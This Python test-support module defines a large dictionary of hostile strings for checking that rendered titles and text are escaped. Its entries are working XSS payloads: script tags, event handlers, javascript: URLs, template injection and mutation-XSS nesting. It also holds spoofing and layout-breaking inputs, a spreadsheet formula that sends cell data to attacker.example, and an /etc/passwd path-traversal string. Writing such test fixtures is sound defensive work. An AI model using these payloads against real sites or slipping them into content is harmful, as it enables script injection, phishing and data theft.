"""Texts that try to run a script, leave their place or break the layout. A script that runs sets `window.__xss`."""

import dataclasses
import json

from support.configuration import DATA, IS_FULL_RUN

LABELED_FILE = DATA / "security/xss-titles.jsonl"

RUN = "window.__xss=1"


@dataclasses.dataclass(frozen=True)
class HostileText:
    name: str
    text: str


# Each by the place in a document that it tries to leave, or by what it does to the layout.
TEXTS = {
    "script": f"<script>{RUN}</script>",
    "title-end": f"</title><script>{RUN}</script>",
    "textarea-end": f"</textarea><script>{RUN}</script>",
    "script-end": f"</script><script>{RUN}</script>",
    "style-end": f"</style><img src=x onerror={RUN}>",
    "comment-end": f"--><script>{RUN}</script><!--",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "image": f"<img src=x onerror={RUN}>",
    "image-without-spaces": f"<img/src=x/onerror={RUN}//",
    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "details": f"<details open ontoggle={RUN}>text",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "form": f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>press</button></form>",
    "base": "<base href=https://attacker.example/><a href=x>x</a>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "double-quote": f'" autofocus onfocus="{RUN}" x="',
    "single-quote": f"' autofocus onfocus='{RUN}' x='",
    "backtick": "` onfocus=`" + RUN,
    "javascript-url": f"javascript:{RUN}",
    "javascript-url-mixed-case": f"JaVaScRiPt:{RUN}",
    "javascript-url-with-tab": f"java\tscript:{RUN}",
    "javascript-url-with-control": f"\x01javascript:{RUN}",
    "url-with-script": f'https://attacker.example/?q="><script>{RUN}</script>',
    "url-with-handler": f"https://attacker.example/' onmouseover='{RUN}",
    "url-with-credentials": "https://bank.example@attacker.example/",
    "url-with-override": "https://attacker.example/\u202egpj.exe",
    "url-of-lookalike": "https://\u0430\u0440\u0440\u04cf\u0435.example/",
    "long-url": "https://attacker.example/" + "a" * 2_000,
    "data-url": f"data:text/html,<script>{RUN}</script>",
    "markdown-link": f"[press](javascript:{RUN})",
    "markdown-image": f"![x](x) [x]: javascript:{RUN}",
    "markdown-autolink": f"<javascript:{RUN}>",
    "template": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= x %>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "json-separators": f"\u2028\u2029{RUN}",
    "right-to-left-override": "invoice\u202egpj.exe",
    "bidirectional-isolates": "\u2066\u2067\u2068text without ends",
    "invisible": "\u200b\u200c\u200d\ufeff\u2060",
    "combining-marks": "Z" + "\u0310\u0311\u0312\u0313" * 100,
    "long-word": "W" * 3_000,
    "many-lines": "line\n" * 300,
    "wide-characters": "龘" * 500,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 100,
    "spreadsheet-formula": '=HYPERLINK("https://attacker.example/?"&A1,"press")',
    "terminal-escape": "\x1b]0;title\x07\x1b[31mred",
    "path": "../../../../etc/passwd%00.html",
    "prototype": "__proto__",
}


def own_texts():
    return [HostileText(name, text) for name, text in TEXTS.items()]


def labeled_texts():
    """Returns the labeled texts: all in a full run, and otherwise every eighth."""
    rows = [json.loads(line) for line in LABELED_FILE.read_text(encoding="utf-8").splitlines()]
    return [HostileText(row["id"], row["payload"]) for row in (rows if IS_FULL_RUN else rows[::8])]
